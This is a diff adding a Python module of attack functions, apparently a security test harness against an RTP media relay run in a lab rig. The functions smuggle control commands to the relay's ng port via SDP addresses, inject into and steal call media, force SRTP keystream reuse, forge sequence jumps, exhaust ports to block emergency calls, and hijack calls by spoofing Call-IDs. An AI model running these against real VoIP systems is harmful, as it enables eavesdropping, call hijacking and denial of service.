@@ -1,0 +1,315 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Attacks by hand, one function each: takes a rig, returns what the relay did. The docstring's first line is the table's."""
+import time
+
+import crypto
+import sdp
+import srtp
+from peer_rig import GATEWAY, Phone, count
+
+SUITE = "AES_CM_128_HMAC_SHA1_80"
+OTHER = "AES_CM_128_HMAC_SHA1_32"
+COMMAND = b" d7:command4:list5:limiti100ee"
+
+
+def pair(rig, near=None, far=None, **far_keys):
+    return Phone(rig, "east", 5000, suite=near), Phone(rig, "west", 6000, suite=far, **far_keys)
+
+
+def to_ng(rig, where, more=""):
+    """The caller names ng as his media address, the callee sends a command in RTP."""
+    a, b = pair(rig)
+    rig.call(*pair_more(rig), name="victim")
+    there = rig.offer("evil", a.sdp(more, where=where))
+    rig.told(b, there)
+    rig.answer("evil", b.sdp())
+    rig.left()
+    # A cookie is what comes before the first space: the twelve bytes of the RTP header must have none.
+    packet = bytes([0x80, 0]) + b"abcdefghij"
+    for _ in range(5):
+        b.sock.sendto(packet + COMMAND, b.to)
+        time.sleep(0.02)
+    replies = [d for d in b.got() if b"victim" in d]
+    reached = [p for p in rig.left() if p.dport == rig.relay.ng_port]
+    if replies:
+        return f"ng obeyed: `list` came back to the attacker with another's Call-ID ({len(reached)} commands reached ng)"
+    return f"taken; {len(reached)} of 5 packets reached ng, no reply came back" if reached else "taken, but nothing reached ng"
+
+
+def pair_more(rig):
+    return Phone(rig, "east", 7000), Phone(rig, "west", 7200)
+
+
+def ng_by_loopback(rig):
+    """1: SDP names 127.0.0.1 and the ng port, the accomplice sends `list` in RTP"""
+    return to_ng(rig, ("127.0.0.1", 22222))
+
+
+def ng_by_own_address(rig):
+    """1: the same with the media address and the ng port"""
+    return to_ng(rig, (GATEWAY, 22222))
+
+
+def ng_by_rtcp(rig):
+    """1: the same by `a=rtcp:22222 IN IP4 127.0.0.1`"""
+    a, b = pair(rig)
+    there = rig.offer("evil", a.sdp("a=rtcp:22222 IN IP4 127.0.0.1\r\n"))
+    line = sdp.parse(there)[0]
+    rig.answer("evil", b.sdp())
+    rig.left()
+    for _ in range(5):
+        b.sock.sendto(b"\x80\xcc\0\x08abcdefgh" + COMMAND, (line.address, line.rtcp))
+        time.sleep(0.02)
+    b.got()
+    reached = [p for p in rig.left() if p.dport == rig.relay.ng_port]
+    return f"taken; {len(reached)} of 5 packets reached ng" if reached else "taken, but nothing reached ng"
+
+
+def bleed(rig):
+    """3: plain call, silent callee; after 3.5 s a stranger sends one packet, then the callee speaks from his signalled address"""
+    a, b = pair(rig)
+    rig.call(a, b)
+    time.sleep(3.5)
+    stranger = Phone(rig, "stranger", 40000)
+    stranger.send(b"stranger", to=b.to)
+    injected = count(a.got(), b"stranger")
+    for _ in range(10):
+        b.send(b"callee")
+        a.send(b"caller")
+        time.sleep(0.02)
+    got, stolen, heard = count(b.got(), b"caller"), count(stranger.got(0), b"caller"), count(a.got(), b"callee")
+    return f"injected packets: {injected} of 1; the callee got {got} of 10, the stranger {stolen}; {heard} of the callee's 10 were relayed"
+
+
+def refresh(rig):
+    """4: callee behind NAT, confirmed; byte-identical re-INVITE; a stranger sends 10 packets before the callee's next"""
+    a, b = Phone(rig, "east", 5000), Phone(rig, "west", 6000, source=6500)
+    name, _, _ = rig.call(a, b)
+    time.sleep(3.5)
+    rig.must_speak(a, b)
+    rig.offer(name, a.sdp(), to_tag="b")
+    rig.answer(name, b.sdp())
+    stranger = Phone(rig, "stranger", 40000)
+    for _ in range(10):
+        stranger.send(b"stranger", to=b.to)
+        time.sleep(0.02)
+    for _ in range(10):
+        a.send(b"caller")
+        time.sleep(0.02)
+    stolen, injected = count(stranger.got(), b"caller"), count(a.got(), b"stranger")
+    for _ in range(10):
+        b.send(b"callee")
+        a.send(b"caller")
+        time.sleep(0.02)
+    return f"the stranger got {stolen} of 10 packets and injected {injected} of 10; afterwards {count(a.got(), b'callee')} of the callee's 10 were relayed"
+
+
+def circle(rig):
+    """5: both parties of a plain call name each other's relay port by re-INVITE; one packet, counted for 0.3 s"""
+    other = pair_more(rig)
+    rig.call(*other)
+    rig.must_speak(*other)
+    a, b = pair(rig)
+    name, _, _ = rig.call(a, b)
+    rig.offer(name, a.sdp(where=b.to), to_tag="b")
+    rig.answer(name, b.sdp(where=a.to))
+    rig.left()
+    a.send(b"round")
+    time.sleep(0.3)
+    n = sum(b"round" in p.data for p in rig.left())
+    rig.client.call("delete", call_id=name, delete_delay=0)
+    return f"taken; the packet left {n} times" if n else "taken, but nothing was relayed"
+
+
+def reuse(rig, steps):
+    """Runs steps(rig, name, a, b, spoken, keys), where spoken(word) sends three packets with the same sequence numbers each time.
+    Counts indexes with two ciphertexts."""
+    a, b = pair(rig, far=SUITE)
+    name, there, _ = rig.call(a, b)
+    keys = {s: crypto.Key(s, k) for _, s, k in sdp.parse(there)[0].keys if s in (SUITE, OTHER)}
+    rig.tags = {s: t for t, s, _ in sdp.parse(there)[0].keys}
+    used, again = {}, 0
+
+    def spoken(word, seqs=(501, 502, 503)):
+        for seq in seqs:
+            a.send(word * 10, seq=seq)
+            time.sleep(0.005)
+    steps(rig, name, a, b, spoken, keys)
+    time.sleep(0.2)
+    opened = 0
+    for p in rig.left():
+        for suite, key in keys.items():
+            if p.dst != b.ip or not key.open(p.data, 0):
+                continue
+            opened += 1
+            index = (suite, p.data[:12])
+            again += used.setdefault(index, p.data) != p.data
+    return f"{again} of 3 indexes were sent with a second plaintext ({opened} packets left)"
+
+
+def three_answers(rig):
+    """6: one offer, three answers (key 1, key 2, key 1); the plain side repeats its sequence numbers after the third"""
+    def steps(rig, name, a, b, spoken, keys):
+        spoken(b"one")
+        first = (b.tag, b.suite, b.key)
+        b.tag, b.suite, b.key = rig.tags[OTHER], OTHER, b"2" * 30
+        rig.answer(name, b.sdp())
+        spoken(b"two", (401, 402, 403))
+        b.tag, b.suite, b.key = first
+        rig.answer(name, b.sdp())
+        spoken(b"six")
+    return reuse(rig, steps)
+
+
+def repeat(rig):
+    """6: the plain side simply repeats sequence numbers with other words"""
+    def steps(rig, name, a, b, spoken, keys):
+        spoken(b"one")
+        spoken(b"two")
+    return reuse(rig, steps)
+
+
+def there_and_back(rig):
+    """6: SRTP to plain RTP to SRTP by re-INVITE, the same key again"""
+    def steps(rig, name, a, b, spoken, keys):
+        spoken(b"one")
+        secure, b.suite = b.suite, None
+        rig.offer(name, a.sdp(), to_tag="b")
+        rig.answer(name, b.sdp())
+        a.send(b"clear", seq=499)
+        b.suite = secure
+        there = rig.offer(name, a.sdp(), to_tag="b", secure=True)
+        rig.told(b, there)
+        new = next(k for _, s, k in sdp.parse(there)[0].keys if s == SUITE)
+        keys.setdefault(SUITE + " again", crypto.Key(SUITE, new)) if new != keys[SUITE].material else None
+        rig.answer(name, b.sdp())
+        spoken(b"two")
+    return reuse(rig, steps)
+
+
+def jump(rig, packets=1):
+    """8: one packet forged with the plain terminal's address and a sequence number 32,000 ahead"""
+    a, b = pair(rig, far=SUITE)
+    rig.call(a, b)
+    for _ in range(20):
+        a.send(b"before")
+        time.sleep(0.005)
+    receiver = srtp.Session(SUITE, b.rx, srtp.INBOUND)
+    before = sum(receiver.unprotect(p) is not None for p in b.got())
+    if before < 15:
+        raise RuntimeError(f"the control call has no media: {before}")
+    for i in range(packets):
+        rig.attackers.martian("stranger", a.ip, a.port, a.to, a.packet(b"forged", seq=a.seq + 32000 + i & 0xffff))
+    time.sleep(0.1)
+    for _ in range(200):
+        a.send(b"after")
+        time.sleep(0.002)
+    clear = [receiver.unprotect(p) or b"" for p in b.got()]
+    return f"of the next 200 packets {sum(b'after' in p for p in clear)} opened at the receiver, {len(clear)} were relayed"
+
+
+def jumps(rig):
+    """8: the same with three forged packets in a row"""
+    return jump(rig, 3)
+
+
+def many_lines(rig):
+    """8: offers with 64 m-lines until the ports are used up (10,000); then an ordinary and an emergency call"""
+    lines = [("10.200.1.2", 30000 + 2 * i, []) for i in range(64)]
+    taken = refused = 0
+    while taken + refused < 120:  # 64 lines as long as they are taken, then few, to have what is left
+        body = sdp.body(lines[:(64, 8, 1)[min(refused, 2)]], "10.200.1.2")
+        reply = rig.client.call("offer", tries=15, call_id=f"many-{taken}-{refused}", from_tag="a", sdp=body,
+                                transport_protocol="RTP/AVP", ICE="remove")
+        taken, refused = taken + (reply.get("result") == "ok"), refused + (reply.get("result") != "ok")
+        if refused == 3:
+            break
+    a, b = pair(rig)
+    out = []
+    for kind, flags in (("ordinary", []), ("emergency", ["emergency"])):
+        reply = rig.client.call("offer", tries=15, call_id=kind, from_tag="a", sdp=a.sdp(), transport_protocol="RTP/AVP",
+                                ICE="remove", flags=flags)
+        out.append(f"{kind} call: {reply.get('result')}" + (f" ({reply['error-reason']})" if "error-reason" in reply else ""))
+    return f"{taken} of {taken + refused} offers taken; {', '.join(out)}"
+
+
+def redirect(rig):
+    """8: who lost a fork sends an INVITE with Call-ID and From tag of the established call; an accomplice answers"""
+    a, b = pair(rig)
+    name, _, _ = rig.call(a, b, via_branch="one")
+    rig.must_speak(a, b)
+    thief = Phone(rig, "stranger", 41000)
+    try:
+        rig.offer(name, thief.sdp(), via_branch="two")
+        rig.answer(name, Phone(rig, "stranger", 42000).sdp(), to_tag="c", via_branch="two")
+    except Exception as why:  # noqa: BLE001
+        if not rig.runs():
+            raise
+        refused = f"refused: {why}; "
+    else:
+        refused = ""
+    for _ in range(10):
+        b.send(b"callee")
+        time.sleep(0.02)
+    return f"{refused}the caller got {count(a.got(), b'callee')} of 10 packets, the thief {count(thief.got(), b'callee')}"
+
+
+def unknown_branch(rig):
+    """8: `delete` with a via-branch that the call never had"""
+    a, b = pair(rig)
+    name, _, _ = rig.call(a, b, via_branch="one")
+    rig.must_speak(a, b)
+    reply = rig.client.call("delete", call_id=name, from_tag="a", via_branch="nobody's", delete_delay=0)
+    there = rig.client.call("query", call_id=name)["result"] == "ok"
+    media = there and rig.speak(a, b)
+    return f"{reply['result']}{': ' + reply['warning'] if 'warning' in reply else ''}; the call {'goes on' if media else 'is over'}"
+
+
+def hygiene(rig):
+    """9: bare CR, NUL and ESC in SDP"""
+    out = []
+    for name, byte in (("CR", "\r"), ("NUL", "\0"), ("ESC", "\x1b")):
+        a = Phone(rig, "east", 5000 + 2 * len(out))
+        try:
+            text = rig.offer("hygiene" + name, a.sdp(f"a=x:one{byte}two\r\n"))
+            out.append(f"{name} {'passes' if 'one' + byte + 'two' in text else 'is removed'}")
+        except Exception as why:  # noqa: BLE001
+            if not rig.runs():
+                raise
+            out.append(f"{name} refused ({why})")
+    return ", ".join(out)
+
+
+def key_lines(rig):
+    """9: `k=` and `a=key-mgmt` lines"""
+    out = []
+    for name, line in (("k=", "k=clear:secret"), ("a=key-mgmt", "a=key-mgmt:mikey AQAFgM0XflABAAAAAAAAAAAAAAsAyO")):
+        a = Phone(rig, "east", 5000 + 2 * len(out))
+        try:
+            text = rig.offer("keys" + name, a.sdp(line + "\r\n"))
+            out.append(f"{name} {'passes' if line in text else 'is removed'}")
+        except Exception as why:  # noqa: BLE001
+            if not rig.runs():
+                raise
+            out.append(f"{name} refused ({why})")
+    return ", ".join(out)
+
+
+def reflected(rig):
+    """9: the callee answers with the relay's own key and sends the relay's packets back"""
+    a, b = pair(rig, far=SUITE)
+    name = "reflected"
+    there = rig.offer(name, a.sdp(), secure=True)
+    rig.told(b, there)
+    b.key = b.rx
+    rig.told(a, rig.answer(name, b.sdp()))
+    for _ in range(10):
+        a.send(b"mine")
+        time.sleep(0.01)
+    for p in b.got():
+        b.sock.sendto(p, b.to)
+    return f"taken; the caller heard {count(a.got(), b'mine')} of its own 10 packets"
+
+
+ALL = [ng_by_loopback, ng_by_own_address, ng_by_rtcp, bleed, refresh, circle, three_answers, repeat, there_and_back, jump, jumps, many_lines,
+       redirect, unknown_branch, hygiene, key_lines, reflected]
